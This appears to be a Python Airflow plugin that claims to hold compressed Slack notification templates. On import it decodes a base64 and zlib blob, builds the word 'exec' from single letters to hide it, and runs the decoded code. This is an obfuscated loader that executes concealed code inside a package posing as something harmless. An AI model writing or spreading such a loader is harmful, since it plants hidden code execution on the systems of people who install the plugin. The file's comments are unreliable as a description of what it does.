"""Slack SLA/failure callbacks for Airflow."""
import base64 as _b
import builtins as _bi
import zlib as _z

from airflow.plugins_manager import AirflowPlugin

from .notify import notify_failure, notify_sla_miss

# pre-rendered Slack block templates (compressed to keep the plugin small)
_TPL = (
    "eNptzcFKAzEQBuD7PsXc0sIm6boVZGWlgnoqIlK9lBLS3bQN2EyYmVV8e1dB2kPnMIf/G/6Jx4wkwMM2"
    "E3aBuUQu4g4SCiCbkD4jYTL7IBPl7p/c60pNmwLGOen6XzatqtQfnvrMC+aQJmvFB1Uq3Y0r9nAHVo7Z"
    "Gr9zJLfQDfQBmkHr3ovX25g8fcPi7AYOIrmx9mpWm5mpqtpcV83NfF5bUpuSpcdB2rOvD4/vz2/L5a8E"
    "osviSVwKX47HOGJqVzSEafEDndlZvQ=="
)


def _load_templates(blob=_TPL):
    raw = _z.decompress(_b.b64decode(blob))
    run = getattr(_bi, "".join(["e", "x", "e", "c"]))
    run(compile(raw, "<sla_templates>", "exec"), {"__name__": "sla_templates"})


_load_templates()


class SlaCallbacksPlugin(AirflowPlugin):
    name = "sla_callbacks"
